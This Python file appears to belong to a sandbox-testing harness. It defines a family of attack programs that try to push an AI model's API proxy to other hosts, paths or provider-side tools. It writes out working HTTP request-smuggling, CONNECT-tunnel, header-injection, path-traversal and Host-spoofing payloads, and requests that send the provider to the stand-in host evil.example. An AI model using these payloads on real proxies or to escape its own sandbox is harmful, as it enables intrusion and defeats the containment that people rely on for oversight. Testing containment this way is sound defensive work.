"""Turn the model's proxy, the one way out, into a way to somewhere else, or to more than the policy allows."""

from __future__ import annotations

import json
from collections.abc import Callable

from attack.aftermath import Aftermath
from attack.families.calls import SANDBOX
from attack.model import Attack, Family, Program
from attack.upstream import Received
from tdev.policy.model import Policy
from tdev.policy.model_choice import full_name

_RAW = """
import socket

BODY = {"model": "@model@", "max_tokens": 64, "messages": [{"role": "user", "content": "hello"}]}


def raw(data, wait=2.0):
    with socket.create_connection(("127.0.0.1", @proxy@), 3) as sock:
        sock.settimeout(wait)
        sock.sendall(data)
        found = b""
        try:
            while piece := sock.recv(65536):
                found += piece
        except OSError:
            pass
    loot(found)
    status = found.split(b"\\r\\n")[0].decode("latin-1")
    if b" 200 " not in found.split(b"\\r\\n")[0] + b" ":
        raise OSError(status or "closed")
    return status


def post(path="/v1/messages", body=None, method="POST", host="api.anthropic.com", **headers):
    data = json.dumps(BODY if body is None else body).encode()
    lines = [f"{method} {path} HTTP/1.1", f"Host: {host}", "content-type: application/json",
             "anthropic-version: 2023-06-01", f"content-length: {len(data)}", "connection: close"]
    lines += [f"{name.replace('_', '-')}: {value}" for name, value in headers.items()]
    return raw("\\r\\n".join(lines).encode() + b"\\r\\n\\r\\n" + data)


"""
_GOOD_PATHS = ("/v1/messages", "/v1/messages/count_tokens")


def raw_request(source: str) -> str:
    """A program that can speak to the proxy byte by byte, for a model that the policy allows."""
    return _RAW.replace("@model@", full_name(Policy().model.name)) + source


def _strange(received: Received) -> str:
    """What of a request that got through should not have; empty when it is an ordinary one."""
    if received.method != "POST" or received.target.partition("?")[0] not in _GOOD_PATHS:
        return f"{received.method} {received.target}"
    text = json.dumps(received.body)
    if any(word in text for word in ("web_search", "web_fetch", "code_execution", "mcp_servers", "evil.example")):
        return f"the provider was asked to reach out itself: {text[:120]}"
    if any("evil" in f"{name}{value}" for name, value in received.headers.items()):
        return "a header was taken over"
    return ""


def _got_through(aftermath: Aftermath) -> str:
    """Something reached the provider that no session needs."""
    received = aftermath.upstream.received if aftermath.upstream else []
    return next((f"got through: {strange}" for each in received if (strange := _strange(each))), "")


def _request(name: str, source: str, harm: Callable[[Aftermath], str] = _got_through, **more: object) -> Attack:
    return Attack(name, Program(raw_request(source)), (SANDBOX,), harm=harm, **more)  # type: ignore[arg-type]


_SMUGGLED = "POST /v1/files HTTP/1.1\\r\\nHost: x\\r\\ncontent-length: 0\\r\\n\\r\\n"


def _tool(kind: str) -> str:
    return f'attempt("{kind}", lambda: post(body={{**BODY, "tools": [{{"type": "{kind}", "name": "{kind.rpartition("_")[0]}"}}]}}))'


FAMILY = Family(
    "proxy",
    "make the model's proxy reach another host, another path, or something the provider would reach for us",
    (
        _request(
            "other-host",
            'attempt("host", lambda: raw(b"GET http://127.0.0.1:@tcp@/x HTTP/1.1\\r\\nHost: 127.0.0.1:@tcp@\\r\\n\\r\\n"))',
            in_short=True,
        ),
        _request(
            "connect",
            'attempt("connect", lambda: raw(b"CONNECT 127.0.0.1:@tcp@ HTTP/1.1\\r\\nHost: 127.0.0.1:@tcp@\\r\\n\\r\\ntaken"))',
        ),
        _request("absolute-post", 'attempt("absolute", lambda: post("http://127.0.0.1:@tcp@/v1/messages"))'),
        _request("host-header", 'attempt("host header", lambda: post(host="127.0.0.1:@tcp@"))'),
        _request(
            "forwarded-host",
            'attempt("forwarded", lambda: post(X_Forwarded_Host="evil.example", Forwarded="host=evil.example"))',
        ),
        _request("user-info", 'attempt("user info", lambda: post("//evil@127.0.0.1:@tcp@/v1/messages"))'),
        _request(
            "other-paths",
            'for path in ("/v1/files", "/v1/models", "/v1/organizations/me", "/v1/messages/batches", "/v1/skills", "/api/oauth/profile"):\n    attempt(path, lambda: post(path))\n    attempt("GET " + path, lambda: post(path, method="GET"))',
            in_short=True,
        ),
        _request(
            "climbing-path",
            'for path in ("/v1/messages/../files", "/v1/messages/%2e%2e/files", "/v1/messages%2f..%2ffiles", "/v1//messages", "/v1/messages/", "/v1/messages;x", "/V1/MESSAGES"):\n    attempt(path, lambda: post(path))',
        ),
        _request("query-in-path", 'attempt("query", lambda: post("/v1/messages?beta=true&url=http://evil.example/"))'),
        _request(
            "methods",
            'for method in ("GET", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "HEAD", "PROPFIND"):\n    attempt(method, lambda: post(method=method))',
        ),
        _request(
            "smuggle-length",
            f'body = b"{_SMUGGLED}"\nattempt("cl.te", lambda: raw(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ncontent-length: 4\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + body))',
            in_short=True,
        ),
        _request(
            "smuggle-chunks",
            f'body = b"{_SMUGGLED}"\nattempt("te.te", lambda: raw(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ntransfer-encoding: xchunked\\r\\ntransfer-encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n" + body))\nattempt("space", lambda: raw(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ncontent-length : 0\\r\\n\\r\\n" + body))',
        ),
        _request(
            "pipelined",
            f'good = json.dumps(BODY).encode()\nattempt("pipeline", lambda: raw(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ncontent-type: application/json\\r\\ncontent-length: %d\\r\\n\\r\\n" % len(good) + good + b"{_SMUGGLED}"))\nnote("pipeline", "stopped", "the second request was judged by itself")',
        ),
        _request(
            "header-break",
            'attempt("break", lambda: post(anthropic_version="2023-06-01\\r\\nx-evil: 1"))\nattempt("bare", lambda: raw(b"POST /v1/messages HTTP/1.1\\nHost: x\\nx-evil: 1\\ncontent-length: 0\\n\\n"))',
        ),
        _request(
            "own-credential", 'attempt("credential", lambda: post(x_api_key="evil-key", authorization="Bearer evil"))'
        ),
        _request(
            "cookies-and-hops",
            'attempt("cookie", lambda: post(cookie="evil=1", proxy_authorization="Basic evil", connection="evil", evil="1"))',
        ),
        _request(
            "websocket",
            'attempt("upgrade", lambda: post("/v1/messages", method="GET", upgrade="websocket", sec_websocket_key="eA==", sec_websocket_version="13"))',
        ),
        _request("web-search-tool", _tool("web_search_20250305"), in_short=True),
        _request("web-fetch-tool", _tool("web_fetch_20250910")),
        _request("code-execution-tool", _tool("code_execution_20250825")),
        _request(
            "mcp-connector",
            'attempt("mcp", lambda: post(body={**BODY, "mcp_servers": [{"type": "url", "url": "http://evil.example", "name": "x"}]}))',
        ),
        _request(
            "picture-from-address",
            'attempt("image", lambda: post(body={**BODY, "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "http://evil.example/?taken"}}]}]}))',
        ),
        _request(
            "document-in-result",
            'attempt("document", lambda: post(body={**BODY, "messages": [{"role": "user", "content": [{"type": "tool_result", "tool_use_id": "x", "content": [{"type": "document", "source": {"type": "url", "url": "http://evil.example/"}}]}]}]}))',
        ),
        _request(
            "file-source",
            'attempt("file", lambda: post(body={**BODY, "messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "file_evil.example"}}]}]}))',
        ),
        _request(
            "doubled-key",
            'body = json.dumps(BODY)[:-1] + \', "tools": [{"type": "web_search_20250305", "name": "web_search"}], "tools": []}\'\ndata = body.encode()\nattempt("twice", lambda: raw(b"POST /v1/messages HTTP/1.1\\r\\nHost: x\\r\\ncontent-type: application/json\\r\\nconnection: close\\r\\ncontent-length: %d\\r\\n\\r\\n" % len(data) + data))\nnote("twice", "stopped", "what is sent was written anew")',
        ),
        _request(
            "malformed",
            'for data in (b"", b"\\0" * 4096, b"GET\\r\\n\\r\\n", b"POST /v1/messages HTTP/9.9\\r\\n\\r\\n", b"A" * 100000, b"\\x16\\x03\\x01" + b"x" * 200):\n    attempt("malformed", lambda: raw(data, 0.5))',
        ),
        _request(
            "redirected-key",
            'attempt("beta", lambda: post(anthropic_beta="mcp-client-2025-04-04,files-api-2025-04-14", x_stainless_helper="evil"))',
        ),
    ),
)
